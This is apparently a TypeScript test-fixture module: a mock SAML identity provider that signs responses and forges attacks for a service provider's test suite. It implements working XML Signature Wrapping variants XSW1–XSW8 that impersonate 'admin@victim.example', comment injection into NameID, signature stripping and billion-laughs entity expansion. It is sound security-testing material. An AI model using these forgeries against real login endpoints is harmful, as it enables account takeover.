import { constants, createCipheriv, publicEncrypt, randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { inflateRawSync } from 'node:zlib';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

/*
 * A SAML 2.0 identity provider in a few functions, for tests and the ACS benchmark: build a
 * Response with one Assertion (every field overridable), sign the assertion and/or the response
 * with xml-crypto (rsa-sha256, exc-c14n, enveloped), and forge the responses an attacker would
 * post: XML Signature Wrapping XSW1–XSW8 (Somorovsky et al., "On Breaking SAML: Be Whoever You
 * Want to Be", 2012, in the numbering SAML Raider uses), comments and processing instructions
 * inside NameID, DOCTYPEs, SHA-1 and #WithComments signatures, oversized messages.
 *
 * Keys: test/fixtures/saml/ holds long-lived RSA-2048 test keys with self-signed certificates
 * (valid 2020–2120) for the IdP and for an attacker, and an EXPIRED certificate (valid only in
 * 2020) for the settings tests. They are test fixtures, never used anywhere else.
 */

export interface KeyPair {
  /** PKCS#8 private key, PEM. */
  key: string;
  /** Self-signed X.509 certificate, PEM. */
  cert: string;
}

const FIXTURES = new URL('../fixtures/saml/', import.meta.url);
const loadPair = (name: string): KeyPair => ({
  key: readFileSync(new URL(`${name}.key`, FIXTURES), 'utf8'),
  cert: readFileSync(new URL(`${name}.crt`, FIXTURES), 'utf8'),
});

/** The IdP's signing key and certificate (the one an organization pins). */
export const IDP_KEYS = loadPair('idp');
/** Another key pair, as an attacker would generate it. */
export const ATTACKER_KEYS = loadPair('attacker');
/** A certificate whose validity ended on 2021-01-01 (for settings tests); key included. */
export const EXPIRED_KEYS = loadPair('expired');

/** The base64 body of a PEM certificate (what goes into ds:X509Certificate). */
export function certBody(pem: string): string {
  return pem.replace(/-----(BEGIN|END) CERTIFICATE-----/g, '').replace(/\s+/g, '');
}

export const NS = {
  samlp: 'urn:oasis:names:tc:SAML:2.0:protocol',
  saml: 'urn:oasis:names:tc:SAML:2.0:assertion',
  ds: 'http://www.w3.org/2000/09/xmldsig#',
} as const;

export const ALG = {
  rsaSha256: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  rsaSha1: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
  sha1: 'http://www.w3.org/2000/09/xmldsig#sha1',
  excC14n: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  excC14nWithComments: 'http://www.w3.org/2001/10/xml-exc-c14n#WithComments',
  enveloped: 'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
} as const;

export const NAMEID_EMAIL = 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress';
export const NAMEID_PERSISTENT = 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent';
export const STATUS_SUCCESS = 'urn:oasis:names:tc:SAML:2.0:status:Success';

export const samlId = (prefix = '_') => `${prefix}${randomBytes(16).toString('hex')}`;

/** Every value of the Response and its one Assertion. `null` omits the element or attribute. */
export interface ResponseFields {
  responseId: string;
  assertionId: string;
  issueInstant: Date;
  /** Issuer of the Response. */
  issuer: string | null;
  /** Issuer of the Assertion (defaults to `issuer`). */
  assertionIssuer: string | null;
  destination: string | null;
  inResponseTo: string | null;
  statusCode: string;
  nameId: string;
  nameIdFormat: string | null;
  /** Omit the whole Subject. */
  subject: boolean;
  recipient: string | null;
  subjectNotOnOrAfter: Date | null;
  notBefore: Date | null;
  notOnOrAfter: Date | null;
  audience: string | null;
  authnInstant: Date;
  sessionIndex: string;
  /** AttributeStatement (omitted when empty). */
  attributes: Record<string, string | string[]>;
}

/** What a test normally fixes: the SP's ACS and entity ID, the IdP's entity ID, who signs in. */
export interface ResponseBasics {
  acsUrl: string;
  spEntityId: string;
  idpEntityId: string;
  /** The AuthnRequest ID being answered; null = IdP-initiated (unsolicited). */
  inResponseTo: string | null;
  /** Defaults to `new Date()`; pass the Gatehouse clock's now. */
  now?: Date;
  email?: string;
}

/** A well-formed, success response for `basics`; override any field. */
export function responseFields(basics: ResponseBasics, overrides: Partial<ResponseFields> = {}): ResponseFields {
  const now = basics.now ?? new Date();
  const email = basics.email ?? 'alice@customer.example';
  const minutes = (m: number) => new Date(now.getTime() + m * 60_000);
  const issuer = overrides.issuer === undefined ? basics.idpEntityId : overrides.issuer;
  return {
    responseId: samlId('_resp'),
    assertionId: samlId('_assert'),
    issueInstant: now,
    issuer,
    assertionIssuer: issuer,
    destination: basics.acsUrl,
    inResponseTo: basics.inResponseTo,
    statusCode: STATUS_SUCCESS,
    nameId: email,
    nameIdFormat: NAMEID_EMAIL,
    subject: true,
    recipient: basics.acsUrl,
    subjectNotOnOrAfter: minutes(5),
    notBefore: minutes(-1),
    notOnOrAfter: minutes(5),
    audience: basics.spEntityId,
    authnInstant: now,
    sessionIndex: samlId('_session'),
    attributes: { email, firstName: 'Alice', lastName: 'Example' },
    ...overrides,
  };
}

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const ts = (d: Date) => d.toISOString().replace(/\.\d{3}Z$/, 'Z');
const attr = (name: string, value: string | null) => (value === null ? '' : ` ${name}="${esc(value)}"`);
const dateAttr = (name: string, value: Date | null) => (value === null ? '' : ` ${name}="${ts(value)}"`);

/** The Assertion element alone (own namespace declaration, so it can be moved or embedded). */
export function buildAssertion(f: ResponseFields): string {
  const subject = f.subject
    ? `<saml:Subject><saml:NameID${attr('Format', f.nameIdFormat)}>${esc(f.nameId)}</saml:NameID>` +
      `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData${attr('InResponseTo', f.inResponseTo)}${dateAttr('NotOnOrAfter', f.subjectNotOnOrAfter)}${attr('Recipient', f.recipient)}/></saml:SubjectConfirmation></saml:Subject>`
    : '';
  const audience = f.audience === null ? '' : `<saml:AudienceRestriction><saml:Audience>${esc(f.audience)}</saml:Audience></saml:AudienceRestriction>`;
  const attributes = Object.entries(f.attributes);
  const statement = attributes.length
    ? `<saml:AttributeStatement>${attributes
        .map(([name, v]) => `<saml:Attribute Name="${esc(name)}" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic">${(Array.isArray(v) ? v : [v]).map((x) => `<saml:AttributeValue xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:string">${esc(x)}</saml:AttributeValue>`).join('')}</saml:Attribute>`)
        .join('')}</saml:AttributeStatement>`
    : '';
  return (
    `<saml:Assertion xmlns:saml="${NS.saml}" ID="${esc(f.assertionId)}" Version="2.0" IssueInstant="${ts(f.issueInstant)}">` +
    (f.assertionIssuer === null ? '' : `<saml:Issuer>${esc(f.assertionIssuer)}</saml:Issuer>`) +
    subject +
    `<saml:Conditions${dateAttr('NotBefore', f.notBefore)}${dateAttr('NotOnOrAfter', f.notOnOrAfter)}>${audience}</saml:Conditions>` +
    `<saml:AuthnStatement AuthnInstant="${ts(f.authnInstant)}" SessionIndex="${esc(f.sessionIndex)}"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>` +
    statement +
    `</saml:Assertion>`
  );
}

/** The unsigned Response XML (no XML declaration). `assertions` replaces the one built from `f`. */
export function buildResponse(f: ResponseFields, assertions?: string[]): string {
  return (
    `<samlp:Response xmlns:samlp="${NS.samlp}" xmlns:saml="${NS.saml}" ID="${esc(f.responseId)}" Version="2.0" IssueInstant="${ts(f.issueInstant)}"${attr('Destination', f.destination)}${attr('InResponseTo', f.inResponseTo)}>` +
    (f.issuer === null ? '' : `<saml:Issuer>${esc(f.issuer)}</saml:Issuer>`) +
    `<samlp:Status><samlp:StatusCode Value="${esc(f.statusCode)}"/></samlp:Status>` +
    (assertions ?? [buildAssertion(f)]).join('') +
    `</samlp:Response>`
  );
}

export interface SignOptions {
  /** Default IDP_KEYS. */
  keys?: KeyPair;
  /** Default rsa-sha256. */
  signatureAlgorithm?: string;
  /** Default sha256. */
  digestAlgorithm?: string;
  /** SignedInfo canonicalization and the reference's c14n transform; default exc-c14n. */
  canonicalization?: string;
  /** Embed KeyInfo/X509Data/X509Certificate with the signer's certificate (default true). */
  keyInfo?: boolean;
}

/**
 * Sign the element with `ID=id` (enveloped signature placed right after its Issuer, as the SAML
 * schema wants; first child when it has none). Returns the whole document.
 */
export function signElement(xml: string, id: string, opts: SignOptions = {}): string {
  const keys = opts.keys ?? IDP_KEYS;
  const c14n = opts.canonicalization ?? ALG.excC14n;
  const sig = new SignedXml({
    privateKey: keys.key,
    ...(opts.keyInfo === false ? {} : { publicCert: keys.cert }),
    signatureAlgorithm: opts.signatureAlgorithm ?? ALG.rsaSha256,
    canonicalizationAlgorithm: c14n,
  });
  if (opts.keyInfo === false) sig.getKeyInfoContent = () => null;
  sig.addReference({ xpath: `//*[@ID='${id}']`, transforms: [ALG.enveloped, c14n], digestAlgorithm: opts.digestAlgorithm ?? ALG.sha256 });
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const target = findById(doc, id);
  if (!target) throw new Error(`no element with ID ${id}`);
  const hasIssuer = childElements(target).some((c) => c.localName === 'Issuer' && c.namespaceURI === NS.saml);
  sig.computeSignature(xml, {
    prefix: 'ds',
    location: hasIssuer
      ? { reference: `//*[@ID='${id}']/*[local-name(.)='Issuer']`, action: 'after' }
      : { reference: `//*[@ID='${id}']`, action: 'prepend' },
  });
  return sig.getSignedXml();
}

export interface ForgeOptions extends SignOptions {
  /** Sign the Assertion (default true). */
  signAssertion?: boolean;
  /** Sign the Response (default false). Both: the assertion first, then the response over it. */
  signResponse?: boolean;
}

/** Build and sign a Response. */
export function forgeResponse(f: ResponseFields, opts: ForgeOptions = {}): string {
  let xml = buildResponse(f);
  if (opts.signAssertion ?? true) xml = signElement(xml, f.assertionId, opts);
  if (opts.signResponse) xml = signElement(xml, f.responseId, opts);
  return xml;
}

/** A signed Assertion element on its own (to assemble multi-assertion responses). */
export function signedAssertion(f: ResponseFields, opts: SignOptions = {}): string {
  return signElement(buildAssertion(f), f.assertionId, opts);
}

// ---------------------------------------------------------------------------------------------
// DOM helpers

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}
function serialize(doc: Document): string {
  return new XMLSerializer().serializeToString(doc);
}
function childElements(el: Element): Element[] {
  const out: Element[] = [];
  for (let n = el.firstChild; n; n = n.nextSibling) if (n.nodeType === 1) out.push(n as Element);
  return out;
}
function child(el: Element, ns: string, localName: string): Element | null {
  return childElements(el).find((c) => c.namespaceURI === ns && c.localName === localName) ?? null;
}
function findById(doc: Document, id: string): Element | null {
  const all = doc.getElementsByTagName('*');
  for (let i = 0; i < all.length; i++) if (all.item(i)!.getAttribute('ID') === id) return all.item(i);
  return null;
}
function responseAndAssertion(doc: Document): { response: Element; assertion: Element } {
  const response = doc.documentElement!;
  const assertion = child(response, NS.saml, 'Assertion');
  if (!assertion) throw new Error('the Response has no Assertion');
  return { response, assertion };
}
function withoutSignature(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  const sig = child(copy, NS.ds, 'Signature');
  if (sig) copy.removeChild(sig);
  return copy;
}

/** The identity an attacker wants to be. */
export interface EvilIdentity {
  nameId: string;
  /** Also written into every email-like attribute; defaults to nameId. */
  email?: string;
}
export const EVIL: EvilIdentity = { nameId: 'admin@victim.example' };

const EMAIL_ATTRIBUTES = new Set(['email', 'mail', 'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress', 'urn:oid:0.9.2342.19200300.100.1.3']);

/** Rewrite NameID and email attributes of an assertion element (in place). */
function impersonate(assertion: Element, evil: EvilIdentity) {
  const setText = (el: Element, text: string) => {
    while (el.firstChild) el.removeChild(el.firstChild);
    el.appendChild(el.ownerDocument!.createTextNode(text));
  };
  const subject = child(assertion, NS.saml, 'Subject');
  const nameId = subject && child(subject, NS.saml, 'NameID');
  if (nameId) setText(nameId, evil.nameId);
  const statement = child(assertion, NS.saml, 'AttributeStatement');
  for (const a of statement ? childElements(statement) : []) {
    if (!EMAIL_ATTRIBUTES.has(a.getAttribute('Name') ?? '')) continue;
    for (const v of childElements(a)) setText(v, evil.email ?? evil.nameId);
  }
}

export type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';
export const XSW_VARIANTS: readonly XswVariant[] = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'];
/** XSW1–2 wrap a signed Response; XSW3–8 a signed Assertion. */
export const xswSigns = (v: XswVariant): 'response' | 'assertion' => (v === 'XSW1' || v === 'XSW2' ? 'response' : 'assertion');

/** What each variant does, for test names and the README. */
export const XSW_DESCRIPTIONS: Record<XswVariant, string> = {
  XSW1: 'evil Response (new ID) at the root; the signed original Response copied inside its Signature',
  XSW2: 'evil Response (new ID) at the root; the signed original Response copied before its Signature (detached)',
  XSW3: 'evil Assertion (new ID, unsigned) inserted before the signed one',
  XSW4: 'evil Assertion (new ID, unsigned) wrapping the signed one as its child',
  XSW5: 'evil Assertion (new ID) carrying the original Signature; an unsigned copy of the original appended to the Response',
  XSW6: 'evil Assertion (new ID) carrying the original Signature, with the original Assertion copied inside that Signature',
  XSW7: 'evil Assertion (new ID, unsigned) inside a samlp:Extensions element before the signed Assertion',
  XSW8: 'evil Assertion (new ID) carrying the original Signature, with the original Assertion inside a ds:Object in that Signature',
};

/**
 * Apply an XML Signature Wrapping variant to a legitimately signed response (XSW1–2: response
 * signed; XSW3–8: assertion signed, response not). The original signature stays valid over the
 * original element (now moved); the attacker's identity sits where a naive parser reads it: the
 * root Response's / first Assertion's NameID and email attributes.
 */
export function applyXsw(signedXml: string, variant: XswVariant, evil: EvilIdentity = EVIL): string {
  const doc = parse(signedXml);
  const { response, assertion } = responseAndAssertion(doc);
  const evilId = samlId('_evil');
  switch (variant) {
    case 'XSW1':
    case 'XSW2': {
      const signature = child(response, NS.ds, 'Signature');
      if (!signature) throw new Error(`${variant} needs a signed Response`);
      const original = withoutSignature(response);
      if (variant === 'XSW1') signature.appendChild(original);
      else response.insertBefore(original, signature);
      response.setAttribute('ID', evilId);
      impersonate(assertion, evil);
      break;
    }
    case 'XSW3':
    case 'XSW4':
    case 'XSW7': {
      if (!child(assertion, NS.ds, 'Signature')) throw new Error(`${variant} needs a signed Assertion`);
      const evilAssertion = withoutSignature(assertion);
      evilAssertion.setAttribute('ID', evilId);
      impersonate(evilAssertion, evil);
      if (variant === 'XSW3') response.insertBefore(evilAssertion, assertion);
      else if (variant === 'XSW4') {
        response.replaceChild(evilAssertion, assertion);
        evilAssertion.appendChild(assertion);
      } else {
        const extensions = doc.createElementNS(NS.samlp, 'samlp:Extensions');
        extensions.appendChild(evilAssertion);
        response.insertBefore(extensions, child(response, NS.samlp, 'Status'));
      }
      break;
    }
    case 'XSW5':
    case 'XSW6':
    case 'XSW8': {
      if (!child(assertion, NS.ds, 'Signature')) throw new Error(`${variant} needs a signed Assertion`);
      const evilAssertion = assertion.cloneNode(true) as Element; // keeps the original Signature
      evilAssertion.setAttribute('ID', evilId);
      impersonate(evilAssertion, evil);
      const original = withoutSignature(assertion);
      const evilSignature = child(evilAssertion, NS.ds, 'Signature')!;
      response.replaceChild(evilAssertion, assertion);
      if (variant === 'XSW5') response.appendChild(original);
      else if (variant === 'XSW6') evilSignature.appendChild(original);
      else {
        const object = doc.createElementNS(NS.ds, 'ds:Object');
        object.appendChild(original);
        evilSignature.appendChild(object);
      }
      break;
    }
  }
  return serialize(doc);
}

// ---------------------------------------------------------------------------------------------
// Other forgeries

/** Remove every ds:Signature. */
export function stripSignatures(xml: string): string {
  const doc = parse(xml);
  const sigs = doc.getElementsByTagNameNS(NS.ds, 'Signature');
  for (let i = sigs.length - 1; i >= 0; i--) {
    const s = sigs.item(i)!;
    s.parentNode!.removeChild(s);
  }
  return serialize(doc);
}

/**
 * Insert raw markup into the NameID text of a signed response after `prefix`, e.g. a comment:
 * `admin@victim.example<!---->.evil.test`. Canonicalization without comments drops the comment,
 * so the signature over `admin@victim.example.evil.test` stays valid; a parser that reads the
 * first text node sees `admin@victim.example`.
 */
export function injectIntoNameId(xml: string, prefix: string, markup: string): string {
  const re = new RegExp(`(<saml:NameID[^>]*>)(${escapeRe(prefix)})`);
  if (!re.test(xml)) throw new Error(`NameID does not start with ${prefix}`);
  return xml.replace(re, `$1$2${markup}`);
}

/** The same trick inside the first AttributeValue of the attribute `name`. */
export function injectIntoAttribute(xml: string, name: string, prefix: string, markup: string): string {
  const re = new RegExp(`(<saml:Attribute Name="${escapeRe(name)}"[^>]*><saml:AttributeValue[^>]*>)(${escapeRe(prefix)})`);
  if (!re.test(xml)) throw new Error(`attribute ${name} does not start with ${prefix}`);
  return xml.replace(re, `$1$2${markup}`);
}

/** The same trick inside the text of the first `saml:<localName>` element (e.g. Audience). */
export function injectIntoElement(xml: string, localName: string, prefix: string, markup: string): string {
  const re = new RegExp(`(<saml:${escapeRe(localName)}(?:\\s[^>]*)?>)(${escapeRe(prefix)})`);
  if (!re.test(xml)) throw new Error(`${localName} does not start with ${prefix}`);
  return xml.replace(re, `$1$2${markup}`);
}

const escapeRe = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

/**
 * Set (or add) an attribute on the root Response element after signing. When only the assertion
 * is signed, the Response element is not covered by any signature, so this keeps every signature
 * valid: e.g. an attacker-chosen Response InResponseTo on an unsolicited signed assertion.
 */
export function setResponseAttribute(xml: string, name: string, value: string): string {
  const doc = parse(xml);
  doc.documentElement!.setAttribute(name, value);
  return serialize(doc);
}

/**
 * Move the Assertion's (valid) Signature up into the Response, after its Issuer. The signature
 * still verifies over the Assertion it references (the enveloped transform removed it from the
 * digest anyway), but it now sits in an element it does not sign.
 */
export function relocateAssertionSignature(xml: string): string {
  const doc = parse(xml);
  const { response, assertion } = responseAndAssertion(doc);
  const signature = child(assertion, NS.ds, 'Signature');
  if (!signature) throw new Error('the Assertion is not signed');
  assertion.removeChild(signature);
  const issuer = child(response, NS.saml, 'Issuer');
  response.insertBefore(signature, issuer ? issuer.nextSibling : response.firstChild);
  return serialize(doc);
}

/** Put a DOCTYPE (an internal subset if given) in front of the document. */
export function withDoctype(xml: string, internalSubset = ''): string {
  return `<!DOCTYPE samlp:Response${internalSubset ? ` [${internalSubset}]` : ''}>${xml}`;
}

/** "Billion laughs": ten levels of ten-fold entity expansion, referenced from the NameID. */
export function billionLaughs(xml: string): string {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return withDoctype(xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&lol9;'), entities.join(''));
}

/** Check every ds:Signature in the document with xml-crypto against `cert`; true if any is valid. */
export function hasValidSignature(xml: string, cert: string = IDP_KEYS.cert): boolean {
  const doc = parse(xml);
  const sigs = doc.getElementsByTagNameNS(NS.ds, 'Signature');
  for (let i = 0; i < sigs.length; i++) {
    const sig = new SignedXml({ publicCert: cert });
    try {
      sig.loadSignature(sigs.item(i)!);
      if (sig.checkSignature(xml)) return true;
    } catch {
      // this one is not valid; try the next
    }
  }
  return false;
}

// ---------------------------------------------------------------------------------------------
// Encrypted assertions (XML Encryption 1.1, as IdPs produce them)

export interface EncryptOptions {
  /** Key transport: RSA-OAEP (mgf1p, SHA-1 — the common default) or the refused RSA PKCS#1 v1.5. */
  keyTransport?: 'rsa-oaep-mgf1p' | 'rsa-1_5';
  /** Content cipher (default AES-256-GCM). */
  cipher?: 'aes256-gcm' | 'aes128-cbc';
}

const CIPHERS = {
  'aes256-gcm': { uri: 'http://www.w3.org/2009/xmlenc11#aes256-gcm', node: 'aes-256-gcm', keyBytes: 32, ivBytes: 12 },
  'aes128-cbc': { uri: 'http://www.w3.org/2001/04/xmlenc#aes128-cbc', node: 'aes-128-cbc', keyBytes: 16, ivBytes: 16 },
} as const;
const KEY_TRANSPORTS = {
  'rsa-oaep-mgf1p': { uri: 'http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p', padding: constants.RSA_PKCS1_OAEP_PADDING },
  'rsa-1_5': { uri: 'http://www.w3.org/2001/04/xmlenc#rsa-1_5', padding: constants.RSA_PKCS1_PADDING },
} as const;

/** An EncryptedAssertion element holding `assertionXml`, encrypted to `recipientCertPem`. */
export function encryptAssertion(assertionXml: string, recipientCertPem: string, opts: EncryptOptions = {}): string {
  const cipher = CIPHERS[opts.cipher ?? 'aes256-gcm'];
  const transport = KEY_TRANSPORTS[opts.keyTransport ?? 'rsa-oaep-mgf1p'];
  const key = randomBytes(cipher.keyBytes);
  const iv = randomBytes(cipher.ivBytes);
  let payload: Buffer;
  if (cipher.node === 'aes-256-gcm') {
    const c = createCipheriv('aes-256-gcm', key, iv);
    payload = Buffer.concat([iv, c.update(assertionXml, 'utf8'), c.final(), c.getAuthTag()]);
  } else {
    const c = createCipheriv('aes-128-cbc', key, iv);
    payload = Buffer.concat([iv, c.update(assertionXml, 'utf8'), c.final()]);
  }
  const encryptedKey = publicEncrypt({ key: recipientCertPem, padding: transport.padding, ...(transport.padding === constants.RSA_PKCS1_OAEP_PADDING ? { oaepHash: 'sha1' } : {}) }, key);
  return (
    `<saml:EncryptedAssertion xmlns:saml="${NS.saml}"><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" Type="http://www.w3.org/2001/04/xmlenc#Element">` +
    `<xenc:EncryptionMethod Algorithm="${cipher.uri}"/>` +
    `<ds:KeyInfo xmlns:ds="${NS.ds}"><xenc:EncryptedKey><xenc:EncryptionMethod Algorithm="${transport.uri}"/>` +
    `<xenc:CipherData><xenc:CipherValue>${encryptedKey.toString('base64')}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey></ds:KeyInfo>` +
    `<xenc:CipherData><xenc:CipherValue>${payload.toString('base64')}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></saml:EncryptedAssertion>`
  );
}

// ---------------------------------------------------------------------------------------------
// HTTP bindings

export interface AuthnRequestInfo {
  id: string;
  xml: string;
  /** AssertionConsumerServiceURL, when the request names one. */
  acsUrl: string | null;
  issuer: string | null;
  relayState: string | null;
}

/** Decode the HTTP-Redirect AuthnRequest from the Location the SP redirected to. */
export function decodeRedirect(location: string): AuthnRequestInfo {
  const url = new URL(location);
  const encoded = url.searchParams.get('SAMLRequest');
  if (!encoded) throw new Error(`no SAMLRequest in ${location}`);
  const xml = inflateRawSync(Buffer.from(encoded, 'base64')).toString('utf8');
  const id = /<(?:\w+:)?AuthnRequest\b[^>]*\sID="([^"]+)"/.exec(xml)?.[1];
  if (!id) throw new Error(`no AuthnRequest ID in ${xml}`);
  return {
    id,
    xml,
    acsUrl: /AssertionConsumerServiceURL="([^"]+)"/.exec(xml)?.[1] ?? null,
    issuer: /<(?:\w+:)?Issuer[^>]*>([^<]+)</.exec(xml)?.[1] ?? null,
    relayState: url.searchParams.get('RelayState'),
  };
}

/** The HTTP-POST binding form body. */
export function postForm(xml: string, relayState?: string | null): string {
  const form = new URLSearchParams({ SAMLResponse: Buffer.from(xml, 'utf8').toString('base64') });
  if (relayState != null) form.set('RelayState', relayState);
  return form.toString();
}
